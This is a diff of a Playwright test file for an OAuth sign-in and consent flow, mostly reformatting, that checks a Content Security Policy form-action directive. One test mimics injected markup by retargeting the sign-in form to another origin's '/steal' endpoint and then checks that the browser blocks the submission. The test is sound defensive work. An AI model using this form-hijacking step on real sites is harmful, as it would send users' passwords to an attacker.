@@ -3,7 +3,17 @@
 // on another origin, which the page allows for that request only: the flow must still complete.
 import type { BrowserContext, Page } from 'playwright-core';
 import {
-  authorizeUrl, buildTenant, clickAndLoad, createUser, exchangeCode, expectPage, newPage, signIn, startHarness, type Harness, type Tenant,
+  authorizeUrl,
+  buildTenant,
+  clickAndLoad,
+  createUser,
+  exchangeCode,
+  expectPage,
+  newPage,
+  signIn,
+  startHarness,
+  type Harness,
+  type Tenant,
 } from './support/harness';
 import { recordingServer, type RecordingServer } from './support/recording-server';
 
@@ -29,7 +39,7 @@ afterAll(async () => {
 beforeEach(async () => ({ context, page } = await newPage(h)));
 afterEach(() => context?.close());
 
-it('sign-in and consent under form-action end at the client\'s redirect_uri on another origin, with a code', async () => {
+it("sign-in and consent under form-action end at the client's redirect_uri on another origin, with a code", async () => {
   const user = await createUser(h, tenant);
   const first = await page.goto(authorizeUrl(h, tenant, { state: 'csp-1' }));
   expect(await first!.headerValue('content-security-policy')).toContain(`form-action 'self' ${app.base}`);
@@ -40,7 +50,10 @@ it('sign-in and consent under form-action end at the client\'s redirect_uri on a
   await page.getByRole('button', { name: 'Allow' }).click();
   await callback;
 
-  const received = new URL(app.seen.find((u) => u.startsWith('/callback?'))!, app.base);
+  const received = new URL(
+    app.seen.find((u) => u.startsWith('/callback?'))!,
+    app.base,
+  );
   expect(received.searchParams.get('state')).toBe('csp-1');
   expect(received.searchParams.get('iss')).toBe(h.base);
   const tokens = await exchangeCode(h, tenant, received.searchParams.get('code')!);
@@ -52,10 +65,16 @@ it('the policy is enforced: a form sent to any other origin is refused by the br
   await page.goto(authorizeUrl(h, tenant));
   await expectPage(page, 'signin');
   // As injected markup would: point the sign-in form at another origin.
-  await page.evaluate((target) => document.querySelector('form[action$="/signin"]')!.setAttribute('action', target), `${elsewhere.base}/steal`);
+  await page.evaluate(
+    (target) => document.querySelector('form[action$="/signin"]')!.setAttribute('action', target),
+    `${elsewhere.base}/steal`,
+  );
   await page.getByLabel('Email').fill(user.email);
   await page.getByLabel('Password').fill('whatever it is');
-  const refused = page.waitForEvent('console', { predicate: (m) => /violates the following Content Security Policy directive: "form-action/.test(m.text()), timeout: 10_000 });
+  const refused = page.waitForEvent('console', {
+    predicate: (m) => /violates the following Content Security Policy directive: "form-action/.test(m.text()),
+    timeout: 10_000,
+  });
   await page.getByRole('button', { name: 'Sign in' }).click({ noWaitAfter: true }); // no navigation will follow
   await refused;
   expect(elsewhere.seen).toEqual([]);
